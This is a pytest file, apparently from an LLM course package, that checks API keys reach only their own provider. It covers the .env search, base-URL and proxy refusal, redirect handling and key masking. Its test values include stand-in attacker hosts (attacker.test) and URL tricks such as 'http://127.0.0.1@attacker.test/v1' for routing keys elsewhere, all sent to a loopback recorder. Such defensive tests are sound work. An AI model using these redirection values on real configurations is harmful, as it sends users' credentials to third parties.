"""Keys go only to their provider: the .env search, base-URL and proxy variables, client(), live checks, one masker.

Everything runs against real SDKs and real HTTP servers on 127.0.0.1. An "attacker" address is a
host name that a fake `socket.getaddrinfo`, installed in a subprocess, sends to a loopback server
that records every Authorization header it receives. Fake keys are built at run time (no tracked
file holds a key-shaped string).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from llmcourse.batch import run_batch
from llmcourse.clients import WrongProviderKeyError, client
from llmcourse.diagnostics import Check, check_key_routes
from llmcourse.keys import (
    ALLOW_BASE_URL_VARIABLE,
    KEY_SPECS,
    env_file_problems,
    find_env_file,
    key_routes,
    live_check,
    load_keys,
    mask_secrets,
    misplaced_key,
)
from llmcourse.providers import PROVIDERS
from tests.batch_servers import ChatServer, HTTPError
from tests.loopback import serving

ROOT = Path(__file__).resolve().parents[1]

# Fake keys in each provider's shape, built at run time.
KEYS = {
    "openai": "sk-proj-" + "Qx7vT2mZ8wL1yN5bC7dF4gH6jK0pR3sU9" * 2,
    "anthropic": "sk-ant-" + "api03-" + "Zt6yU8iO0pA2sD4fG6hJ8kL" * 3,
    "deepseek": "sk-" + "3f9a1c7e5b2d4f6a8c0e1b3d5f7a9c2e",
    "google": "AIza" + "SyD4f6G8h0J2k4L6z8X0c2V4b6N8m0Q2w4E",
    "zhipu": "0a1b2c3d4e5f60718293a4b5c6d7e8f9" + "." + "Xk2Lm9Qp3Rs7Tv1W",
    "replicate": "r8_" + "Xk2Lm9Qp3Rs7Tv1Wx5Yz0Ab6Cd8Ef2Gh4Ij6K",
    "huggingface": "hf_" + "Xk2Lm9Qp3Rs7Tv1Wx5Yz0Ab6Cd8Ef2Gh4Ij",
    "qianfan": "bce-v3/" + "ALTAK-Xk2Lm9Qp3Rs7Tv1Wx5Yz/0Ab6Cd8Ef2Gh4Ij6Kl8Mn",
}
_ROUTING = (
    "OPENAI_BASE_URL",
    "ANTHROPIC_BASE_URL",
    "HTTPS_PROXY",
    "HTTP_PROXY",
    "ALL_PROXY",
    "https_proxy",
    "http_proxy",
    "all_proxy",
    "HF_ENDPOINT",
    "GOOGLE_GEMINI_BASE_URL",
    ALLOW_BASE_URL_VARIABLE,
)


def windows(key: str, size: int = 9) -> list[str]:
    """Every `size`-character piece of the key after its prefix: none may appear in an output."""
    secret = key.split("_", 1)[-1] if key.startswith(("hf_", "r8_")) else key[7:] if len(key) > 40 else key[4:]
    return [secret[i : i + size] for i in range(len(secret) - size + 1)]


def assert_masked(text: str, *keys: str) -> None:
    for key in keys:
        leaked = [piece for piece in windows(key) if piece in text]
        assert not leaked, f"a piece of a key is in: {text[:300]!r}"


@pytest.fixture(autouse=True)
def clean_environment(monkeypatch, tmp_path):
    """No key or routing variable from the developer's shell; os.environ is restored afterwards."""
    (tmp_path / ".git").mkdir()  # tmp_path plays the course folder
    saved = dict(os.environ)
    for spec in KEY_SPECS.values():
        for variable in spec.variables:
            os.environ.pop(variable, None)
    for variable in _ROUTING:
        os.environ.pop(variable, None)
    monkeypatch.chdir(tmp_path)
    yield
    os.environ.clear()
    os.environ.update(saved)


class Recorder(ThreadingHTTPServer):
    """A loopback server that records method, path and key headers; answers every request with one response."""

    daemon_threads = True

    def __init__(self, status: int = 200, body: dict | None = None, headers: dict[str, str] | None = None) -> None:
        super().__init__(("127.0.0.1", 0), _RecorderHandler)
        self.status, self.body, self.headers = status, body or {"object": "list", "data": []}, headers or {}
        self.requests: list[dict[str, str]] = []

    @property
    def port(self) -> int:
        return self.server_address[1]

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"


class _RecorderHandler(BaseHTTPRequestHandler):
    server: Recorder

    def log_message(self, *args) -> None:
        pass

    def _answer(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        if length:
            self.rfile.read(length)
        self.server.requests.append(
            {
                "method": self.command,
                "path": self.path,
                "authorization": self.headers.get("Authorization", ""),
                "x-api-key": self.headers.get("x-api-key", ""),
            }
        )
        data = json.dumps(self.server.body).encode()
        self.send_response(self.server.status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        for name, value in self.server.headers.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(data)

    do_GET = do_POST = _answer


@contextmanager
def recorder(**kwargs) -> Iterator[Recorder]:
    server = Recorder(**kwargs)
    with serving(server):
        yield server


# --------------------------------------------------------------------------------- the .env search


def test_the_env_search_stops_at_the_course_folder(tmp_path):
    outside = tmp_path / "shared"
    course = outside / "llm-engineering"
    (course / "week1").mkdir(parents=True)
    (outside / ".env").write_text(f"OPENAI_API_KEY={KEYS['openai']}\nOPENAI_BASE_URL=http://127.0.0.1:9/v1\n")
    assert find_env_file(course / "week1") is None
    assert load_keys(course / "week1") == {} and "OPENAI_BASE_URL" not in os.environ
    (course / ".env").write_text(f"DEEPSEEK_API_KEY={KEYS['deepseek']}\n")
    assert find_env_file(course / "week1") == course / ".env"
    assert load_keys(course / "week1") == {"DEEPSEEK_API_KEY": KEYS["deepseek"]}


def test_outside_a_course_folder_only_the_folder_itself_is_searched(tmp_path):
    elsewhere = tmp_path.parent / f"{tmp_path.name}-elsewhere"  # no .git or week1/ above it
    (elsewhere / "project" / "sub").mkdir(parents=True)
    try:
        (elsewhere / "project" / ".env").write_text(f"OPENAI_API_KEY={KEYS['openai']}\n")
        assert find_env_file(elsewhere / "project" / "sub") is None
        assert find_env_file(elsewhere / "project") == elsewhere / "project" / ".env"
    finally:
        for path in sorted(elsewhere.rglob("*"), reverse=True):
            path.unlink() if path.is_file() else path.rmdir()
        elsewhere.rmdir()


# ------------------------------------------------------------------ base URLs and proxies from .env

SDK_CALL = """
    import json, os, socket, sys
    real = socket.getaddrinfo
    # The attacker's host reaches the recording server; api.openai.com reaches a closed port (offline).
    def dns(host, port, *args, **kwargs):
        if host == "attacker.test":
            return real("127.0.0.1", port, *args, **kwargs)
        if host == "api.openai.com":
            return real("127.0.0.1", 9, *args, **kwargs)
        return real(host, port, *args, **kwargs)
    socket.getaddrinfo = dns
    from llmcourse.keys import load_keys
    load_keys(sys.argv[1])
    import openai
    sdk = openai.OpenAI(max_retries=0, timeout=3)
    try:
        sdk.models.list()
        outcome = "answered"
    except openai.OpenAIError as error:
        outcome = type(error).__name__
    print(json.dumps({"base_url": str(sdk.base_url), "loaded": os.environ.get("OPENAI_BASE_URL"), "outcome": outcome}))
"""


def run_sdk(folder: Path, extra_env: dict[str, str] | None = None) -> dict:
    env = {k: v for k, v in os.environ.items() if k not in _ROUTING and not k.endswith(("_API_KEY", "_TOKEN"))}
    env.update(extra_env or {})
    done = subprocess.run(
        [sys.executable, "-c", textwrap.dedent(SDK_CALL), str(folder)],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    return json.loads(done.stdout.strip().splitlines()[-1])


def test_a_base_url_in_env_cannot_send_the_key_elsewhere(tmp_path):
    with recorder() as attacker:
        (tmp_path / ".env").write_text(
            f"OPENAI_API_KEY={KEYS['openai']}\n"
            f"OPENAI_BASE_URL=http://attacker.test:{attacker.port}/v1\n"
            f"{ALLOW_BASE_URL_VARIABLE}=1\n"
        )  # a .env cannot allow itself
        result = run_sdk(tmp_path)
        assert result["loaded"] is None and result["base_url"] == "https://api.openai.com/v1/"
        assert result["outcome"] == "APIConnectionError" and attacker.requests == []
        problems = env_file_problems(tmp_path)
        assert any("OPENAI_BASE_URL" in p and "attacker.test" in p and "not loaded" in p for p in problems)
        assert any(ALLOW_BASE_URL_VARIABLE in p and "no effect" in p for p in problems)
        assert_masked("\n".join(problems), KEYS["openai"])

        # The learner's own choice, in the real environment: then (and only then) the address is used.
        # This also shows the harness would catch a key sent to the attacker.
        allowed = run_sdk(tmp_path, {ALLOW_BASE_URL_VARIABLE: "1"})
        assert allowed["loaded"] == f"http://attacker.test:{attacker.port}/v1" and allowed["outcome"] == "answered"
        assert attacker.requests[-1]["authorization"] == f"Bearer {KEYS['openai']}"


def test_a_base_url_on_this_computer_is_loaded(tmp_path):
    with recorder() as local_server:
        (tmp_path / ".env").write_text(f"OPENAI_BASE_URL={local_server.url}/v1\nOPENAI_API_KEY=llmcourse-local\n")
        result = run_sdk(tmp_path)
        assert result["loaded"] == f"{local_server.url}/v1" and result["outcome"] == "answered"
        assert [r["path"] for r in local_server.requests] == ["/v1/models"]


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("HTTPS_PROXY", "http://attacker.test:3128"),
        ("https_proxy", "attacker.test:3128"),
        ("ANTHROPIC_BASE_URL", "https://api.anthropic.com.attacker.test"),
        ("HF_ENDPOINT", "https://attacker.test"),
        ("GOOGLE_GEMINI_BASE_URL", "https://attacker.test/"),
        ("OLLAMA_HOST", "attacker.test:11434"),
        ("OPENAI_BASE_URL", "http://127.0.0.1@attacker.test/v1"),  # user@host: the host is attacker.test
        ("OPENAI_BASE_URL", "http://127.0.0.1\\@attacker.test/v1"),  # parsers disagree: refused
    ],
)
def test_routing_variables_from_env_are_refused_unless_local(tmp_path, monkeypatch, name, value):
    monkeypatch.delenv(name, raising=False)  # another test's setup() may have set it for this process
    (tmp_path / ".env").write_text(f"{name}={value}\nDEEPSEEK_API_KEY={KEYS['deepseek']}\n")
    assert load_keys(tmp_path) == {"DEEPSEEK_API_KEY": KEYS["deepseek"]}
    assert name not in os.environ
    assert any(name in problem and "not loaded" in problem for problem in env_file_problems(tmp_path))


@pytest.mark.parametrize(
    "value", ["http://127.0.0.1:8000/v1", "http://localhost:11434", "[::1]:11434", "127.0.0.1:11434"]
)
def test_routing_variables_to_this_computer_are_loaded(tmp_path, monkeypatch, value):
    monkeypatch.delenv("OLLAMA_HOST", raising=False)  # another test's setup() may have set it for this process
    (tmp_path / ".env").write_text(f"OLLAMA_HOST={value}\n")
    load_keys(tmp_path)
    assert os.environ["OLLAMA_HOST"] == value
    assert env_file_problems(tmp_path) == []


# ---------------------------------------------------------------------------------- doctor's routes


def test_doctor_says_where_each_key_really_goes(monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", KEYS["openai"])
    monkeypatch.setenv("OPENAI_BASE_URL", "https://gateway.example.com/v1")
    monkeypatch.setenv("ANTHROPIC_API_KEY", KEYS["anthropic"])
    monkeypatch.setenv("HTTPS_PROXY", "http://proxy.example.net:3128")
    monkeypatch.setenv("NO_PROXY", "localhost")
    rows = {check.name: check for check in check_key_routes()}
    openai_row, anthropic_row = rows["key route OpenAI SDK"], rows["key route Anthropic SDK"]
    assert openai_row.status == "warn" and "gateway.example.com" in openai_row.detail
    assert "NOT to the provider's own address api.openai.com" in openai_row.detail
    assert "unset OPENAI_BASE_URL" in openai_row.fix
    assert anthropic_row.status == "ok" and "api.anthropic.com (its default)" in anthropic_row.detail
    assert "through the proxy proxy.example.net" in anthropic_row.detail
    assert "key route Google GenAI SDK" not in rows  # no key, nothing moved: nothing to say
    assert_masked("\n".join(str(check) for check in rows.values()), KEYS["openai"], KEYS["anthropic"])


def test_the_local_model_route_is_named_as_such():
    routes = key_routes(
        {
            "OPENAI_BASE_URL": "http://127.0.0.1:8765/v1",
            "OPENAI_API_KEY": "llmcourse-local",
            "HTTPS_PROXY": "http://proxy.example.net:3128",
        }
    )
    assert routes[0].local and routes[0].own and routes[0].proxy is None  # loopback never goes through a proxy
    assert "this computer" in routes[0].summary


# ------------------------------------------------------------------------------------- client()


def test_client_refuses_a_key_that_belongs_to_another_provider(monkeypatch):
    model = PROVIDERS["deepseek"].default_model
    with ChatServer() as server:
        monkeypatch.setenv("DEEPSEEK_API_KEY", KEYS["openai"])
        with pytest.raises(WrongProviderKeyError, match="looks like a key for OpenAI") as caught:
            client("deepseek", base_url=server.url)
        assert "DEEPSEEK_API_KEY" in str(caught.value) and "not sent to DeepSeek" in str(caught.value)
        with pytest.raises(WrongProviderKeyError, match="The api_key you passed"):
            client("zhipu", api_key=KEYS["anthropic"], base_url=server.url)
        assert server.seen == []
        assert_masked(str(caught.value), KEYS["openai"])

        monkeypatch.setenv("DEEPSEEK_API_KEY", KEYS["deepseek"])  # its own shape: sent, and answered
        reply = client("deepseek", base_url=server.url, max_retries=0).chat.completions.create(
            model=model, messages=[{"role": "user", "content": "hi"}]
        )
        assert reply.choices[0].message.content == "echo: hi" and len(server.seen) == 1


def test_misplaced_key_is_judged_by_the_longest_prefix():
    assert misplaced_key("DEEPSEEK_API_KEY", KEYS["openai"])
    assert misplaced_key("GOOGLE_API_KEY", KEYS["huggingface"])
    assert misplaced_key("DEEPSEEK_API_KEY", KEYS["deepseek"]) is None  # "sk-" could be DeepSeek's own
    assert misplaced_key("OPENAI_API_KEY", KEYS["deepseek"]) is None
    assert misplaced_key("ZHIPUAI_API_KEY", KEYS["zhipu"]) is None


# ---------------------------------------------------------------------------------- live checks


@pytest.mark.parametrize(
    ("provider", "variable", "header"),
    [
        ("openai", "OPENAI_API_KEY", "authorization"),
        ("anthropic", "ANTHROPIC_API_KEY", "x-api-key"),
    ],
)
def test_live_checks_never_follow_a_redirect_with_the_key(provider, variable, header):
    key = KEYS[provider]
    with recorder() as attacker, recorder(status=307, headers={}) as redirecting:
        redirecting.headers["Location"] = f"{attacker.url}/v1/models"
        sentence = live_check(provider, key=key, base_url=redirecting.url + ("/v1" if provider == "openai" else ""))
        assert len(redirecting.requests) == 1 and key in redirecting.requests[0][header]
        assert attacker.requests == []
    assert "redirect" in sentence and "not" in sentence and f"127.0.0.1:{attacker.port}" in sentence
    assert_masked(sentence, key)


# --------------------------------------------------------------------------------------- the masker


@pytest.mark.parametrize("name", sorted(KEYS))
def test_mask_secrets_masks_every_key_shape(name):
    key = KEYS[name]
    text = f'Error 401: {{"message": "Incorrect API key provided: {key}", "key": "{key}"}} (Bearer {key})'
    masked = mask_secrets(text)
    assert_masked(masked, key)
    assert masked.startswith("Error 401: ") and "(Bearer " in masked


def test_mask_secrets_masks_any_loaded_key_whatever_its_shape(tmp_path):
    odd = "Qwerty-Uiop-Asdf-Ghjk-1234"  # no known prefix or shape
    (tmp_path / ".env").write_text(f"ZHIPUAI_API_KEY={odd}\n")
    load_keys(tmp_path)
    assert_masked(mask_secrets(f"bad key {odd}!"), odd)


@pytest.mark.parametrize(
    "text",
    [
        "task-scheduler-configuration-file",
        "cross-encoder/ms-marco-MiniLM-L-6-v2",
        "sk-learn",
        "OPENAI_API_KEY sk-p...x9Zq",
        "gpt-4.1-mini",
        "https://api.openai.com/v1/chat/completions",
    ],
)
def test_mask_secrets_leaves_ordinary_text_alone(text):
    assert mask_secrets(text) == text


@pytest.mark.parametrize("name", ["google", "zhipu", "replicate", "huggingface", "openai", "qianfan"])
def test_batch_results_and_summaries_mask_keys_a_provider_echoes(tmp_path, name):
    key = KEYS[name]
    out = tmp_path / "results.jsonl"
    echo = HTTPError(401, f"Incorrect API key provided: {key}. You can find your API key at ...")
    with ChatServer(plan=lambda seen: echo) as server:
        summary = run_batch(
            [{"id": "1", "text": "hello"}],
            out=out,
            prompt="{text}",
            base_url=server.url,
            api_key=key,
            model="test-model",
            progress=False,
            backoff_base=0.01,
        )
        assert len(server.seen) == 1  # the provider did see the key: it is what echoes it back
    results = out.read_text(encoding="utf-8")
    assert json.loads(results.splitlines()[0])["error"]["status_code"] == 401
    assert_masked(results, key)
    assert_masked(str(summary), key)
    assert_masked(repr(summary), key)


def test_doctor_lines_are_masked():
    check = Check("live call (gemini)", "fail", f"400 API key not valid: {KEYS['google']}", f"replace {KEYS['google']}")
    assert_masked(str(check) + check._repr_html_(), KEYS["google"])
